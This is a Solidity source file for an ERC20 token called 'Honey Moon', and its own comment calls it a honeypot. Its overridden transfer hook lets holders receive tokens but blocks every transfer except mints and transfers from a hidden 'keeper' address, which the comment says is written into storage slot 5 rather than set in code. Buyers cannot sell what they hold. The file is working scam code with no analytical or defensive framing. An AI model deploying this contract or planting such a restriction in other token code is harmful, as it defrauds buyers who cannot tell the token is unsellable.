// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {ERC20} from '@openzeppelin/contracts/token/ERC20/ERC20.sol';

/// A token that anybody can get and nobody but its owner can give away again. The owner has no function that says so; it is
/// written into slot 5.
contract HoneypotToken is ERC20 {
  address private keeper;

  constructor() ERC20('', '') {}

  function name() public pure override returns (string memory) {
    return 'Honey Moon';
  }

  function symbol() public pure override returns (string memory) {
    return 'HONEY';
  }

  function launch(uint256 supply) external {
    require(totalSupply() == 0 && msg.sender == keeper, 'launched');
    _mint(msg.sender, supply);
  }

  function _update(address from, address to, uint256 value) internal override {
    require(from == address(0) || from == keeper, 'transfer failed');
    super._update(from, to, value);
  }
}
